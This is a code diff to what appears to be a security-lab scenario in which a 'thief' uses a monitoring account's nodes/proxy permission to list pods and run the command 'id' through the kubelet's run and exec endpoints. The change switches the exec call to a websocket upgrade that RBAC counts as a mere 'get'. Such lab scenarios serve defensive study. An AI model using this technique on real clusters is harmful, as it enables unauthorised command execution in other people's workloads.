@@ -1,6 +1,7 @@
 """Monitoring's right on nodes/proxy is enough to list pods and to run commands at the kubelet."""
 
 from lab.story import Scenario, Stage
+from lab.streams import websocket
 
 
 def _play(stage: Stage) -> None:
@@ -13,7 +14,8 @@ def _play(stage: Stage) -> None:
     with stage.step("run a command at the kubelet", thief, "execution", ("C12", "C13")):
         pod = next(iter(stage.lab.dashboard().get("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb").names))
         thief.post(f"{proxy}/run/shop/{pod}/web", b"cmd=id")
-        thief.get(f"{proxy}/exec/shop/{pod}/web?command=id&output=1")
+        path = f"{proxy}/exec/shop/{pod}/web?command=id&output=1"
+        stage.must(websocket(thief, path, "v4.channel.k8s.io", seconds=1))  # a get, to the server and to its roles
 
 
 SCENARIO = Scenario(
